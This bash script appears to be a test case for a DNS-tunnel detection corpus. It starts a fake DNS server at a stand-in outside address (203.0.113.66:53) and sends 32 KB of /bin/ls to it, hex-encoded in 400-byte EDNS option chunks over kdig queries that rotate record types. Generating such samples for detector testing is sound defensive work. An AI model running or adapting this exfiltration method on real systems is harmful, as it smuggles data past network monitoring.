#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=kdig far=out ready=out:53 seconds=34 parts=dns
# kdig asks a server outside over TCP for one name, by turns of four types; a file goes there in an option of EDNS, 400 bytes in each.
if [ "$1" = out ]; then exec timeout 45 python3 -c 'import socketserver, sys
class Names(socketserver.BaseRequestHandler):
    def handle(self):
        m = b""
        while len(m) < 2 or len(m) < 2 + int.from_bytes(m[:2], "big"):
            d = self.request.recv(4096)
            if not d: return
            m += d
        m = m[2:]; open(sys.argv[1], "ab").write(m); end = m.index(b"\0", 12) + 5
        m = m[:2] + b"\x81\x80\0\1\0\0\0\0\0\0" + m[12:end]; self.request.sendall(len(m).to_bytes(2, "big") + m)
socketserver.TCPServer.allow_reuse_address = True; socketserver.ThreadingTCPServer(("203.0.113.66", 53), Names).serve_forever()' "$LAB/got"; fi
sleep 1; kinds=(A AAAA MX TXT); n=0; head -c 32000 /bin/ls | xxd -p -c 400 | while read -r piece; do kdig +short +tcp +retry=0 +timeout=2 "+ednsopt=65002:$piece" @203.0.113.66 www.example.org "${kinds[n++ % 4]}" >/dev/null 2>&1; sleep 0.1; done
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 30000 ]
